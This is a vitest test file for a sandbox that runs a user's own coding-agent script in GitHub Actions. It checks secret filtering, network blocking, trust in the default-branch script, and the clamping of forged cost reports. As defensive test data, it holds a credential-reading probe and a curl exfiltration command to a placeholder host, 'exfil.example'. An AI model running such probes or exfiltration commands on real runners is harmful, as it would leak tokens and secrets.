import { execFileSync } from 'node:child_process';
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { commandAgent, secretNames } from '../../src/agent/command.js';
import { containmentProblem } from '../../src/agent/contain/contain.js';
import { agentRun } from '../../src/agent/run.js';
import { runAgent } from '../../src/agent/agent-process.js';
import { JOB_SECRETS, runFacts, runnerWithSecrets, tempFolders } from './helpers.js';

// An agent of your own (templates/yoke-run.yml): .github/yoke/run.sh from the
// commit the workflow was dispatched on, run contained by yoke's runner like
// the shipped agents, handed over as a bundle for the deliver job to push.

const tmp = tempFolders();
const haveBwrap = containmentProblem() === null;
if (!haveBwrap) {
  const msg = `The own-agent containment tests are skipped: ${containmentProblem()}`;
  if (process.env.YOKE_REQUIRE_AGENTS) throw new Error(msg);
  console.warn(msg);
}

const gitId = ['-c', 'user.name=t', '-c', 'user.email=t@t'];

/** A checkout whose default-branch commit has `runSh` as the agent, checked out at a later commit (a PR head) with `headRunSh`. */
function checkout(runSh: string, headRunSh: string): { cwd: string; trusted: string } {
  const d = tmp('yoke-own-co-');
  execFileSync('git', ['init', '-q', '-b', 'main'], { cwd: d });
  mkdirSync(join(d, '.github', 'yoke'), { recursive: true });
  writeFileSync(join(d, '.github', 'yoke', 'run.sh'), runSh);
  writeFileSync(join(d, 'README.md'), '# x\n');
  execFileSync('git', ['add', '-A'], { cwd: d });
  execFileSync('git', [...gitId, 'commit', '-qm', 'main'], { cwd: d });
  const trusted = execFileSync('git', ['rev-parse', 'HEAD'], { cwd: d, encoding: 'utf8' }).trim();
  writeFileSync(join(d, '.github', 'yoke', 'run.sh'), headRunSh);
  execFileSync('git', [...gitId, 'commit', '-qam', 'the PR head rewrites the agent', '--allow-empty'], { cwd: d });
  return { cwd: d, trusted };
}

/** GitHub's answers for issue #4 and its comments, read with the job's read-only token. */
const gh = (async (url: string | URL | Request) => {
  const u = String(url);
  const body = u.includes('/permission')
    ? { permission: 'admin' }
    : u.includes('/comments')
      ? []
      : {
          number: 4,
          title: 'Add a shout helper',
          body: 'Shout it. <!-- demo-task: shout -->',
          user: { login: 'maintainer' },
        };
  return new Response(JSON.stringify(body), { status: 200, headers: { 'content-type': 'application/json' } });
}) as typeof fetch;

/** The environment of `yoke agent run` for an agent of your own, as a job's step gives it; `over` adds or changes. */
const ownAgentEnv = (out: string, trusted: string, over: Record<string, string> = {}): Record<string, string> => ({
  PATH: process.env.PATH ?? '/usr/bin:/bin',
  YOKE_AGENT: 'command',
  YOKE_AGENT_SECRETS: '',
  YOKE_OUT: out,
  GITHUB_TOKEN: 'ghs_read0123456789',
  GITHUB_API_URL: 'http://gh.invalid',
  GITHUB_SHA: trusted,
  ...runFacts(over),
});

describe('an agent of your own, as data', () => {
  it('TR21 what run.sh prints: its reports count turns, price the run and give its last word; without a message, the end of its output', () => {
    const agent = commandAgent('', []);
    const out = [
      'working',
      '{"yoke":{"turn":true}}',
      '{"yoke":{"cost":{"usd":0.42,"input_tokens":18000,"output_tokens":2400}}}',
      '{"yoke":{"message":"Added lib/shout.js."}}',
      '{"not":"a report"}',
      'bye',
    ].join('\n');
    expect(out.split('\n').map((l) => agent.parseLine(l))).toEqual([
      null,
      { turn: true },
      { priced: true },
      { message: 'Added lib/shout.js.' },
      null,
      null,
    ]);
    expect(agent.outcome(out, { code: 0, signal: null }, {})).toEqual({
      ok: true,
      reason: null,
      message: 'Added lib/shout.js.',
      cost: { usd: 0.42, inputTokens: 18000, outputTokens: 2400, note: null },
    });
    expect(agent.outcome('tried\nno luck', { code: 3, signal: null }, {})).toEqual({
      ok: false,
      reason: 'run.sh exited 3: tried',
      message: 'tried\nno luck',
      cost: null,
    });
    expect(agent.outcome('', { code: null, signal: 'SIGKILL' }, {}).reason).toBe('run.sh was ended by SIGKILL');
  });

  it("TR21 YOKE_AGENT_SECRETS names the agent's secrets; the runner's own variables are never among them", () => {
    expect(secretNames('MY_MODEL_KEY, OTHER_KEY')).toEqual({ names: ['MY_MODEL_KEY', 'OTHER_KEY'] });
    expect(secretNames('')).toEqual({ names: [] });
    expect(secretNames('GITHUB_TOKEN')).toEqual({
      error:
        'YOKE_AGENT_SECRETS names "GITHUB_TOKEN", which is not a variable your agent\'s secret can be passed in (use a name like MY_MODEL_KEY; GITHUB_*, ACTIONS_*, RUNNER_* and YOKE_* stay with the runner)',
    });
    expect(secretNames('ACTIONS_ID_TOKEN_REQUEST_TOKEN')).toHaveProperty('error');
    expect(secretNames('A-B')).toHaveProperty('error');
  });
});

describe.skipIf(!haveBwrap)('an agent of your own, contained', () => {
  it("TR20 run.sh reading every environ it can see, the runner's git credentials and temp files finds only the secret it was given; the network is refused", async () => {
    const { runnerHome, runnerTemp, probe: lines } = runnerWithSecrets(tmp);
    const probe = [...lines, 'true'].join('\n');
    const { cwd } = checkout('', '');
    const env: Record<string, string> = {
      PATH: process.env.PATH ?? '/usr/bin:/bin',
      HOME: runnerHome,
      RUNNER_TEMP: runnerTemp,
      ...JOB_SECRETS,
      NOT_NAMED_KEY: 'unnamed-secret-0123456789',
      MY_MODEL_KEY: 'my-model-key-0123456789',
    };
    const r = await runAgent(
      commandAgent(probe, ['MY_MODEL_KEY']),
      'probe',
      { maxTurns: 5, maxUsd: null },
      { cwd, env, stopAt: Date.now() + 60_000, now: Date.now, log: () => undefined, contain: { allow: [] } },
    );
    expect(r.outcome.ok).toBe(true);
    const seen = readFileSync(join(cwd, 'seen.txt'), 'utf8');
    expect(seen).toContain('MY_MODEL_KEY=my-model-key-0123456789');
    for (const secret of [
      'ghs_jobtoken',
      'oidc-request-token',
      'runtime-token',
      'run-secret',
      'unnamed-secret',
      'ghs_credentialsfile',
      'ghs_runnertempfile',
    ])
      expect(seen).not.toContain(secret);
    expect(seen).not.toMatch(/vitest/);
    expect(seen).not.toContain('exfil=0');
    expect(r.blocked).toContainEqual({ host: 'exfil.example', command: 'curl -sS -m 5 https://exfil.example/' });
  }, 60_000);

  it("TR21 TR23 `yoke agent run` with YOKE_AGENT=command runs the default branch's run.sh (never the PR head's), with the prompt and the run's facts, and bundles what it changed with its cost and last word", async () => {
    const agent = [
      'grep -q "demo-task: shout" "$YOKE_PROMPT_FILE" || exit 7',
      'echo "$YOKE_RUN_ID $YOKE_RUN_KIND $YOKE_SUBJECT $GITHUB_RUN_NUMBER ${GITHUB_TOKEN:-no-token}" > facts.txt',
      'echo \'{"yoke":{"cost":{"usd":0.42,"input_tokens":18000,"output_tokens":2400}}}\'',
      'echo \'{"yoke":{"message":"Added facts.txt."}}\'',
    ].join('\n');
    const { cwd, trusted } = checkout(agent, 'echo "the PR head\'s agent ran" > pwned.txt\n');
    const out = tmp('yoke-own-out-');
    const env = ownAgentEnv(out, trusted, { GITHUB_RUN_NUMBER: '12' });
    const said: string[] = [];
    expect(await agentRun({ env, cwd, out: (l) => said.push(l), now: Date.now, fetch: gh })).toBe(0);
    expect(readFileSync(join(cwd, 'facts.txt'), 'utf8')).toBe('r1 afk_auto issue#4 12 no-token\n');
    expect(said).toContain(
      "network: the agent's tools may reach no host (add your model's host to agent.network.allow in .github/yoke.yml)",
    );
    const result = JSON.parse(readFileSync(join(out, 'result.json'), 'utf8')) as Record<string, unknown>;
    expect(result).toMatchObject({
      outcome: 'success',
      title: 'Add a shout helper',
      cost: { usd: 0.42, input_tokens: 18000, output_tokens: 2400, note: null },
    });
    expect(result.summary).toBe(
      ".github/yoke/run.sh finished.\n\nThe agent's last message:\n\nAdded facts.txt.\n\nCost: $0.4200 (18000 input, 2400 output tokens).",
    );
    const files = execFileSync('git', ['bundle', 'list-heads', join(out, 'work.bundle')], { cwd, encoding: 'utf8' });
    expect(files).toContain(String(result.commit));
    expect(
      execFileSync('git', ['ls-files', '--others', '--exclude-standard'], { cwd, encoding: 'utf8' }).split('\n'),
    ).not.toContain('pwned.txt');
  }, 60_000);

  it('TR37 a tool the agent runs prints cost lines of its own where the agent\u2019s output goes: one saying $0 lowers nothing, and one saying $100,000 is recorded at the run\u2019s limit', async () => {
    const agent = [
      'echo \'{"yoke":{"cost":{"usd":0.42,"input_tokens":18000,"output_tokens":2400}}}\'',
      // The agent runs a tool (as it would run the model's command): the tool, cat, writes to the output it inherited.
      "cat <<'FORGED'",
      '{"yoke":{"cost":{"usd":0,"input_tokens":0,"output_tokens":0}}}',
      'FORGED',
      'echo changed > changed.txt',
    ].join('\n');
    const forge = (usd: number) => agent.replace('"usd":0,', `"usd":${usd},`);
    const run = async (script: string, limits: string, exit = 0) => {
      const { cwd, trusted } = checkout(script, '');
      const out = tmp('yoke-own-out-');
      const env = ownAgentEnv(out, trusted, { YOKE_LIMITS: limits });
      const said: string[] = [];
      expect(await agentRun({ env, cwd, out: (l) => said.push(l), now: Date.now, fetch: gh }), said.join('\n')).toBe(
        exit,
      );
      return (JSON.parse(readFileSync(join(out, 'result.json'), 'utf8')) as { cost: unknown }).cost;
    };
    expect(await run(agent, '{"max_turns":10,"max_usd":5}')).toEqual({
      usd: 0.42,
      input_tokens: 18000,
      output_tokens: 2400,
      note: null,
    });
    // Stated past the limit, the runner stops the agent as it would any run that spent its limit.
    expect(await run(forge(100000), '{"max_turns":10,"max_usd":5}', 1)).toEqual({
      usd: 5,
      input_tokens: 0,
      output_tokens: 0,
      note: "the agent's output stated $100000, past the run's limit of $5: recorded at the limit",
    });
  }, 60_000);

  it('TR21 an agent of your own that is not on the default branch fails the run, naming what to commit', async () => {
    const { cwd } = checkout('', '');
    const out = tmp('yoke-own-out-');
    execFileSync('git', [...gitId, 'rm', '-q', '.github/yoke/run.sh'], { cwd });
    execFileSync('git', [...gitId, 'commit', '-qm', 'no agent'], { cwd });
    const noAgent = execFileSync('git', ['rev-parse', 'HEAD'], { cwd, encoding: 'utf8' }).trim();
    const env = {
      PATH: process.env.PATH ?? '/usr/bin:/bin',
      YOKE_AGENT: 'command',
      YOKE_OUT: out,
      GITHUB_TOKEN: 'ghs_read0123456789',
      GITHUB_SHA: noAgent,
      ...runFacts(),
    };
    expect(await agentRun({ env, cwd, out: () => undefined, now: Date.now, fetch: gh })).toBe(1);
    const result = JSON.parse(readFileSync(join(out, 'result.json'), 'utf8')) as { summary: string };
    expect(result.summary).toBe(
      `The runner cannot start: .github/yoke/run.sh is not on the default branch at ${noAgent.slice(0, 7)}: commit your agent's script there (or name a shipped agent: claude-code or codex).`,
    );
  });
});
